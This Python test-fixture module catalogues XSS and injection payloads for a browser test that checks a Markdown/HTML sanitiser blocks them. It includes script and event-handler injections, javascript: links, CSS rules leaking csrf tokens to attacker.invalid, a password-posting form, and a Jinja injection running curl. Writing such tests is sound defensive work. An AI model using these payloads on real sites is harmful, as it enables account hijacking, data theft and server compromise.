"""Hostile Markdown and HTML of known classes, written for these tests.

Each payload, where it runs, sets `window.__pwned`, or asks for an address below http://attacker.invalid/ (or of that
host by another scheme). A browser test puts each of them in each field and asserts that neither happens.
"""

from __future__ import annotations

from typing import NamedTuple

EVIL = "http://attacker.invalid"
RUN = "window.__pwned=1"


class Payload(NamedTuple):
    name: str
    text: str


def _link(address: str) -> str:
    return f"[click]({address})"


SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script-case": f"<ScRiPt>{RUN}</sCrIpT>",
    "script-src": f"<script src={EVIL}/s.js></script>",
    "script-slash": f"<script/x>{RUN}</script/y>",
    "script-newline": f"<script\n>{RUN}</script\n>",
    "script-unclosed": f"<script>{RUN}//",
    "script-nested": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-module": f'<script type=module>import "{EVIL}/m.js"</script>',
    "script-comment": f"<script><!--\n{RUN}\n//--></script>",
    "script-after-title": f"</title><script>{RUN}</script>",
    "script-after-textarea": f"</textarea><script>{RUN}</script>",
    "script-after-style": f"</style></script><script>{RUN}</script>",
    "script-cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "script-processing": f"<?xml version='1.0'?><script>{RUN}</script>",
    "script-null": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "script-entity-lt": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "script-numeric": f"&#60;script&#62;{RUN}&#60;/script&#62;",
    "script-double-entity": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "script-fullwidth": f"＜script＞{RUN}＜/script＞",
    "script-in-heading": f"# <script>{RUN}</script>",
    "script-in-list": f"- <script>{RUN}</script>",
    "script-in-quote": f"> <script>{RUN}</script>",
    "script-in-table": f"a|b\n-|-\n<script>{RUN}</script>|x",
    "script-in-code": f"`<script>{RUN}</script>`",
    "script-in-link-text": f"[<script>{RUN}</script>](http://a.example/)",
    "script-in-alt": f"![<script>{RUN}</script>]({EVIL}/i.png)",
    "noscript-breakout": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
}

HANDLERS = {
    "img-onerror": f"<img src=x onerror={RUN}>",
    "img-onerror-quoted": f'<img src="x" onerror="{RUN}">',
    "img-onerror-slashes": f"<img/src=x/onerror={RUN}>",
    "img-onerror-backtick": f"<img src=x onerror=`{RUN}`>",
    "img-onerror-entity": "<img src=x onerror=window&#46;__pwned&#61;1>",
    "img-onerror-tab": f"<img src=x on\terror={RUN}>",
    "img-onerror-formfeed": f"<img\x0csrc=x\x0conerror={RUN}>",
    "img-unclosed": f"<img src=x onerror={RUN} ",
    "img-triple-quote": f'<img """><img src=x onerror={RUN}>">',
    "body-onload": f"<body onload={RUN}>",
    "details-ontoggle": f"<details open ontoggle={RUN}>x</details>",
    "input-autofocus": f"<input autofocus onfocus={RUN}>",
    "select-autofocus": f"<select autofocus onfocus={RUN}></select>",
    "video-onerror": f"<video><source onerror={RUN}></video>",
    "audio-src": f"<audio src={EVIL}/a.mp3 autoplay onloadstart={RUN}></audio>",
    "marquee-onstart": f"<marquee onstart={RUN}>x</marquee>",
    "div-onpointerover": f'<div style="position:fixed;inset:0" onpointerover={RUN}>x</div>',
    "animation-handler": f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart={RUN}>x</b>',
    "content-visibility": f"<b oncontentvisibilityautostatechange={RUN} style=display:block;content-visibility:auto>x",
    "popover-handler": f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={RUN}>x</div>",
    "handler-in-title": f'[x](http://a.example "\\" onmouseover={RUN} x=\\"")',
    "handler-in-title-single": f"[x](http://a.example '\" onfocus={RUN} autofocus x=\"')",
    "handler-in-href": f'[x](http://a.example/"onmouseover="{RUN})',
    "handler-in-alt": f'![" onerror="{RUN}]({EVIL}/i.png)',
    "handler-in-image-title": f'![a]({EVIL}/i.png "\\" onload={RUN} \\"")',
    "handler-in-reference-title": f"[x][r]\n\n[r]: http://a.example '\" onclick={RUN} \"'",
}

SCHEMES = {
    "javascript": _link(f"javascript:{RUN}"),
    "javascript-case": _link(f"JaVaScRiPt:{RUN}"),
    "javascript-angle": _link(f"<javascript:{RUN}>"),
    "javascript-autolink": f"<javascript:{RUN}>",
    "javascript-entity": _link(f"&#106;avascript:{RUN}"),
    "javascript-hex-entity": _link(f"&#x6A;&#x61;vascript:{RUN}"),
    "javascript-colon-entity": _link(f"javascript&colon;{RUN}"),
    "javascript-tab-entity": _link(f"java&Tab;script:{RUN}"),
    "javascript-newline-entity": _link(f"java&NewLine;script:{RUN}"),
    "javascript-percent": _link(f"javascript%3A{RUN}"),
    "javascript-tab": _link(f"<java\tscript:{RUN}>"),
    "javascript-control": _link(f"\x01javascript:{RUN}"),
    "javascript-null": _link(f"java\0script:{RUN}"),
    "javascript-leading-space": _link(f"< javascript:{RUN}>"),
    "javascript-nbsp": _link(f"\u00a0javascript:{RUN}"),
    "javascript-zero-width": _link(f"java\u200bscript:{RUN}"),
    "javascript-bom": _link(f"\ufeffjavascript:{RUN}"),
    "javascript-comment": _link(f"javascript://a.example/%0A{RUN}"),
    "javascript-backslash": _link(f"javascript\\:{RUN}"),
    "javascript-reference": f"[click][r]\n\n[r]: javascript:{RUN}",
    "javascript-shortcut": f"[r]\n\n[r]: <javascript:{RUN}>",
    "javascript-image": f"![x](javascript:{RUN})",
    "javascript-anchor": f'<a href="javascript:{RUN}">click</a>',
    "javascript-anchor-entity": f'<a href="&#x6a;avascript:{RUN}">click</a>',
    "javascript-formaction": f'<form><button formaction="javascript:{RUN}">click</button></form>',
    "vbscript": _link("vbscript:msgbox(1)"),
    "livescript": _link(f"livescript:{RUN}"),
    "data-html": _link("data:text/html,<script>opener.__pwned=1</script>"),
    "data-base64": _link("data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19wd25lZD0xPC9zY3JpcHQ+"),
    "data-svg": f"![x](data:image/svg+xml,<svg%20onload={RUN}>)",
    "data-png": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "blob": _link("blob:http://attacker.invalid/1"),
    "file": _link("file:///etc/passwd"),
    "view-source": _link(f"view-source:{EVIL}/"),
    "filesystem": _link(f"filesystem:{EVIL}/temporary/x"),
    "intent": _link("intent://attacker.invalid#Intent;scheme=http;end"),
    "protocol-relative": _link("//attacker.invalid/x"),
    "backslash-relative": _link("\\\\attacker.invalid/x"),
    "slash-backslash": _link("/\\attacker.invalid/x"),
    "same-site-get": _link("/sign-out"),
    "same-scheme-relative": _link("https:sign-out"),
    "fragment": _link("#main"),
    "mailto-no-address": _link("mailto:?bcc=x@attacker.invalid"),
    "autolink-data": "<data:text/html,x>",
}

MARKUP = {
    "svg-onload": f"<svg onload={RUN}>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=20>x</text></a></svg>',
    "svg-use": f'<svg><use href="{EVIL}/x.svg#a"/></svg>',
    "svg-image": f'<svg><image href="{EVIL}/x.png" onerror={RUN} /></svg>',
    "svg-foreign": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "svg-style-mutation": f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "svg-desc-mutation": f"<svg><desc><style><img src=x onerror={RUN}></style></desc></svg>",
    "math-mutation": f"<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    "math-href": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">click</maction></math>',
    "math-annotation": f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>',
    "template-mutation": f"<template><p></template><img src=x onerror={RUN}>",
    "select-mutation": f"<select><style></select><img src=x onerror={RUN}></style>",
    "form-mutation": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    "comment-breakout": f"<!--><img src=x onerror={RUN}>-->",
    "comment-bang": f"<!--x--!><img src=x onerror={RUN}>",
    "doctype": f'<!DOCTYPE x [<!ENTITY a "<script>{RUN}</script>">]>&a;',
    "style-import": f"<style>@import '{EVIL}/x.css';</style>",
    "style-exfiltration": f"<style>input[name=csrf_token][value^=a]{{background:url({EVIL}/a)}}</style>",
    "style-font": f"<style>@font-face{{font-family:x;src:url({EVIL}/f)}}*{{font-family:x}}</style>",
    "style-attribute": f'<p style="background:url({EVIL}/b)">x</p>',
    "link-stylesheet": f"<link rel=stylesheet href={EVIL}/x.css>",
    "link-prefetch": f"<link rel=prefetch href={EVIL}/p>",
    "meta-refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/">',
    "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
    "base": f"<base href={EVIL}/>",
    "iframe": f"<iframe src={EVIL}/f></iframe>",
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "frameset": f"<frameset onload={RUN}><frame src={EVIL}/></frameset>",
    "object": f"<object data={EVIL}/o.swf></object>",
    "object-javascript": f'<object data="javascript:{RUN}"></object>',
    "embed": f"<embed src={EVIL}/e.swf>",
    "applet": f"<applet code=x codebase={EVIL}/></applet>",
    "form-post": f"<form action={EVIL}/ method=post><input name=password><button>Sign in</button></form>",
    "form-hijack": f"<button form=choices formaction={EVIL}/>Send</button>",
    "img-src": f"<img src={EVIL}/t.gif>",
    "img-srcset": f'<img srcset="{EVIL}/1x.png 1x">',
    "picture": f"<picture><source srcset={EVIL}/p.webp><img></picture>",
    "video-poster": f"<video poster={EVIL}/p.png></video>",
    "track": f"<video><track default src={EVIL}/t.vtt></video>",
    "table-background": f"<table background={EVIL}/t.png><tr><td>x</td></tr></table>",
    "portal": f"<portal src={EVIL}/></portal>",
    "ping": f"<a href=http://a.example ping={EVIL}/>x</a>",
    "dom-clobber": "<a id=htmx></a><form id=body name=cookie><input name=attributes></form><img name=getElementById>",
    "plaintext": f"<plaintext><img src=x onerror={RUN}>",
    "xmp": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    "wrapper-breakout": f"</code></pre></div></main></body><script>{RUN}</script>",
    "custom-element": f"<x-a is=x onclick={RUN} tabindex=0 autofocus onfocus={RUN}>x</x-a>",
}

IMAGES = {
    "image": f"![pixel]({EVIL}/p.png)",
    "image-title": f'![pixel]({EVIL}/p.png "t")',
    "image-reference": f"![pixel][r]\n\n[r]: {EVIL}/p.png",
    "image-shortcut": f"![r]\n\n[r]: {EVIL}/p.png",
    "image-in-link": f"[![pixel]({EVIL}/p.png)](http://a.example)",
    "image-in-image": f"![![pixel]({EVIL}/i.png)]({EVIL}/o.png)",
    "image-relative": "![pixel](//attacker.invalid/p.png)",
    "image-in-table": f"a|b\n-|-\n![p]({EVIL}/p.png)|x",
    "image-in-heading": f"# ![p]({EVIL}/p.png)",
    "image-quote-in-address": f'![p]({EVIL}/"srcset="{EVIL}/q)',
}

FENCES = {
    "fence-info-quote": f'```js" onmouseover="{RUN}\nx\n```',
    "fence-info-tag": f"```<script>{RUN}</script>\nx\n```",
    "fence-info-entity": f"```&quot;&gt;&lt;img/src=x/onerror={RUN}&gt;\nx\n```",
    "fence-info-path": "```../../../etc/passwd\nx\n```",
    "fence-script": f"```html\n</code></pre><script>{RUN}</script>\n```",
    "fence-highlighted-string": f'```python\nx = "</span><img src=x onerror={RUN}>"\n```',
    "fence-highlighted-error": f"```json\n<img src=x onerror={RUN}>\n```",
    "fence-nested": f"````md\n```html\n<script>{RUN}</script>\n```\n````\n<script>{RUN}</script>",
    "fence-unclosed": f"```html\n<script>{RUN}</script>",
    "fence-tilde": f"~~~html\n<script>{RUN}</script>\n~~~",
    "fence-in-quote": f"> ```html\n<script>{RUN}</script>\n> ```",
    "indented-script": f"    <script>{RUN}</script>",
    "inline-code-breakout": f"`` `</code><script>{RUN}</script>` ``",
}

ATTRIBUTES = {
    "hx-get": f'<div hx-get="{EVIL}/x" hx-trigger="load">x</div>',
    "hx-on": f'<div hx-on:click="{RUN}" hx-trigger="load">x</div>',
    "hx-on-load": f'<div hx-on::load="{RUN}" hx-on:htmx:after:init="{RUN}">x</div>',
    "hx-data-prefix": f'<div data-hx-get="{EVIL}/x" data-hx-trigger="load">x</div>',
    "hx-live": f'<div hx-live="{RUN}">x</div>',
    "hx-vals-js": f'<form hx-post=/ hx-trigger=load hx-vals="js:{{x:{RUN}}}"></form>',
    "hx-trigger-filter": f'<div hx-get="/" hx-trigger="load[{RUN}]">x</div>',
    "hx-headers-inherited": f"<div hx-headers:inherited='js:{{\"x\":{RUN}}}'>x</div>",
    "hx-swap-oob": f'<div id=main hx-swap-oob=true><a href="{EVIL}/">x</a></div>',
    "hx-partial": f'<hx-partial hx-target="body"><script>{RUN}</script></hx-partial>',
    "hx-boost": f'<a hx-boost=true href="{EVIL}/">x</a>',
    "hx-sse": f'<div hx-sse:connect="{EVIL}/s">x</div>',
    "hx-in-title": f'[x](http://a.example \'" hx-get="{EVIL}/" hx-trigger="load\')',
    "alpine": f'<div x-data x-init="{RUN}">x</div>',
    "nonce": f'<script nonce="">{RUN}</script>',
}

TEMPLATES = {
    "jinja-product": "{{7*7}}{% for x in [1] %}{{ x }}{% endfor %}",
    "jinja-globals": "{{ cycler.__init__.__globals__.os.popen('curl http://attacker.invalid').read() }}",
    "jinja-block": "{% endblock %}{% raw %}<script>window.__pwned=1</script>{% endraw %}",
    "jinja-safe": "{{ '<script>window.__pwned=1</script>'|safe }}",
    "expression": "${window.__pwned=1}#{window.__pwned=1}<%= window.__pwned=1 %>",
    "gettext": "%(csrf_token)s %s %n {0.__class__}",
}

UNICODE = {
    "bidi-override": f"\u202egnp.exe\u202c [x](http://a.example/\u202e{RUN})",
    "bidi-isolate": f"\u2067\u2066<script>{RUN}</script>\u2069\u2069",
    "nulls": f"\0<\0script\0>{RUN}</script\0>\0",
    "lone-surrogate": f"\ud800<script>{RUN}</script>\udfff",
    "noncharacter": f"\uffff<img src=x onerror={RUN}>\ufffe",
    "overlong-escape": f"%c0%bcscript%c0%be{RUN}",
    "utf7": "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-",
    "control-characters": f"\x1b]8;;{EVIL}\x07<b onclick={RUN}>\x08\x7f",
    "line-separator": f"\u2028<script>{RUN}</script>\u2029",
    "combining-flood": "Z" + "\u0351" * 2000 + f"<img src=x onerror={RUN}>",
    "homograph": "[accord](http://аttacker.invalid/)",
    "kelvin-sign": f"<script \u212a>{RUN}</script>",
    "long-s": f"<\u017fcript>{RUN}</\u017fcript>",
}

PAYLOADS = tuple(
    Payload(name, text)
    for family in (SCRIPTS, HANDLERS, SCHEMES, MARKUP, IMAGES, FENCES, ATTRIBUTES, TEMPLATES, UNICODE)
    for name, text in family.items()
)
